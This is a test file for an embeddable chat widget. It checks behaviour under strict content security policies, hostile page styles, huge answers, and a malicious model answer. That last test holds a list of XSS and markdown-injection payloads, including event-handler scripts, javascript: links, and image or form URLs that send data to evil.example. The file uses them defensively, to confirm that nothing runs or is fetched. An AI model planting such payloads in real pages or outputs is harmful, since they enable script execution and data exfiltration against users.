// Pages that restyle everything, policies that forbid everything, and answers that attack.

import assert from "node:assert/strict";
import { after, before, beforeEach } from "node:test";
import { test } from "../../../client/tests/kit.mjs";
import { begin, strict, until } from "../kit.mjs";
import { answers, ask, idle, last, launcher, openChat, panel } from "../talk.mjs";

let kit;
before(async () => (kit = await begin()));
after(() => kit?.end());
beforeEach(() => kit.reset());

test("it works under a policy that allows nothing but its own", async () => {
  kit.kit.provider.says = () => "**Yes** [1].";
  const page = await kit.open({ policy: strict(kit.host) });
  await openChat(page);
  await ask(page, "How long does a refund take?");
  await last(page).locator("strong").waitFor();
  await idle(page);
  // Styles, too, which the page could not have.
  assert.equal(await launcher(page).evaluate((button) => getComputedStyle(button).borderRadius), "50%");
  assert.deepEqual(page.faults, []);
});

test("the work that a site asks for is done under that policy, too", async () => {
  await kit.newSite({ challenge: "always" });
  const page = await kit.open({ policy: strict(kit.host) });
  await openChat(page);
  await ask(page, "How long does a refund take?");
  await last(page).getByText("Fertig.").waitFor();
  await idle(page);
  assert.equal(kit.kit.proxy.asked.filter((asked) => asked === "POST /login/visitor").length, 2);
  assert.deepEqual(page.faults.filter((fault) => !fault.includes("401")), []);
});

test("it works where a page checks what becomes a script", async () => {
  const policy = `${strict(kit.host)}; require-trusted-types-for 'script'; trusted-types parlance`;
  const page = await kit.open({ policy });
  await openChat(page);
  await ask(page, "How long does a refund take?");
  await last(page).getByText("Fertig.").waitFor();
  assert.deepEqual(page.faults, []);
});

test("a page that restyles everything changes nothing", async () => {
  const style = `:not(html, body, head, style, script) { all: unset !important; display: none !important; color: red !important; font: 60px cursive !important; transform: rotate(9deg) !important;
    opacity: .1 !important; position: static !important; width: 3px !important; visibility: hidden !important; animation: x 1s !important }
    button, textarea, div, svg, path { display: none !important } parlance-chat { display: none !important; pointer-events: none !important; zoom: 3 }`;
  const look = async (html) => {
    const page = await kit.open({ html, options: { reducedMotion: "reduce" } });
    await page.waitForFunction(() => customElements.get("parlance-chat"));
    await page.evaluate(() => document.querySelector("parlance-chat").show());
    await ask(page, "How long does a refund take?");
    await last(page).getByText("Fertig.").waitFor();
    await last(page).getByRole("button", { name: "Good answer" }).waitFor();
    return page.evaluate(() => {
      const root = document.querySelector("parlance-chat").shadowRoot;
      const seen = (name) => {
        const element = root.querySelector(name);
        const { x, y, width, height } = element.getBoundingClientRect();
        const { color, fontSize, opacity, visibility, backgroundColor } = getComputedStyle(element);
        return [x, y, width, height, color, fontSize, opacity, visibility, backgroundColor];
      };
      return [".launcher", ".panel", ".composer", ".bubble", ".body p"].map(seen);
    });
  };
  assert.deepEqual(await look(`<style>${style}</style>`), await look(""));
});

const XSS = [
  "<script>window.hit = 1</script>", "<img src=x onerror=window.hit=1>", "<svg onload=window.hit=1>", "<iframe srcdoc='<script>parent.hit=1</script>'>",
  "<a href='javascript:window.hit=1'>a</a>", "[a](javascript:window.hit=1)", "[a](JaVaScRiPt:window.hit=1)", "[a](<javascript:window.hit=1>)",
  "[a](&#106;avascript:window.hit=1)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:a)", "[a](//evil.example)", "<javascript:window.hit=1>",
  "![a](https://evil.example/?q=secret)", "![a](x){onerror=window.hit=1}", "[![a](https://evil.example/b)](https://good.example)",
  '[a](https://good.example "onmouseover=window.hit=1")', '[a](https://good.example"onclick=window.hit=1)', "`<img src=x onerror=window.hit=1>`",
  "```html\n<img src=x onerror=window.hit=1>\n```", "| <img src=x onerror=window.hit=1> | b |\n| - | - |\n| <b onclick=window.hit=1>c</b> | d |",
  "<style>*{display:none}</style>", "<base href=https://evil.example>", "<form action=https://evil.example><button>x", "<object data=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<details open ontoggle=window.hit=1>",
  "[1](javascript:window.hit=1)", "[99]", "<parlance-chat site=x host=https://evil.example>", "\u202Egnp.exe", "{{constructor.constructor('window.hit=1')()}}",
];

test("nothing of an answer runs, and nothing of it is fetched", async () => {
  kit.kit.provider.says = () => XSS.join("\n\n");
  const page = await kit.open();
  const fetched = [];
  page.on("request", (request) => fetched.push(request.url()));
  await openChat(page);
  await ask(page, "Attack!");
  await idle(page);
  await last(page).locator("td", { hasText: /^d$/ }).waitFor();
  const made = await last(page).locator(".body").evaluate((body) => {
    const all = [...body.querySelectorAll("*")];
    const attributes = [...new Set(all.flatMap((element) => element.getAttributeNames()))].sort();
    const links = [...body.querySelectorAll("a")].map((a) => [a.protocol, a.rel, a.target].join(" "));
    for (const a of body.querySelectorAll("a, button")) a.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
    return { names: [...new Set(all.map((element) => element.localName))].sort(), attributes, links: [...new Set(links)] };
  });
  const names = ["a", "button", "code", "div", "p", "path", "pre", "span", "svg", "table", "tbody", "td", "th", "thead", "tr"];
  assert.deepEqual(made.names.filter((name) => !names.includes(name)), []);
  const harmless = ["aria-hidden", "aria-label", "class", "d", "dir", "href", "part", "rel", "role", "tabindex", "target", "title", "type", "viewBox"];
  assert.deepEqual(made.attributes.filter((name) => !harmless.includes(name)), []);
  assert.deepEqual(made.links, ["https: noopener noreferrer nofollow _blank"]);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  assert.deepEqual(fetched.filter((url) => !url.startsWith(kit.host)), []);
  // The page itself is as it was.
  assert.equal(await page.locator("parlance-chat").count(), 1);
});

for (const [name, text] of Object.entries({
  "10,000 nested quotes": `${"> ".repeat(10_000)}deep`,
  "1 MB of one word": "a".repeat(1_000_000),
  "100,000 lines": "a\n\n".repeat(100_000),
})) {
  test(`a page that shows ${name} can still be used`, async () => {
    const page = await kit.open();
    await openChat(page);
    await ask(page, "How long does a refund take?");
    await idle(page);
    // Such an answer comes from the history, and at once.
    kit.kit.proxy.before = ({ method, url }, answer) => {
      if (method !== "GET" || !/\/chat\/sessions\/.*\/messages/.test(url)) return false;
      const message = (id, role, content) => ({ id, role, content, status: "complete", sources: [], session_id: "s" });
      answer.writeHead(200, { "access-control-allow-origin": kit.origin, "content-type": "application/json" });
      answer.end(JSON.stringify({ items: [message("q", "user", "Attack!"), message("a", "assistant", text)], next_cursor: null }));
      return true;
    };
    await page.reload();
    await panel(page).getByText("Attack!").waitFor();
    await until(async () => (await last(page).locator(".body").innerText()).length > 0);
    kit.kit.proxy.before = undefined;
    await panel(page).getByRole("button", { name: "New conversation" }).click();
    await until(async () => (await answers(page).count()) === 0);
    await ask(page, "Still there?");
    await last(page).getByText("Fertig.").waitFor();
  });
}
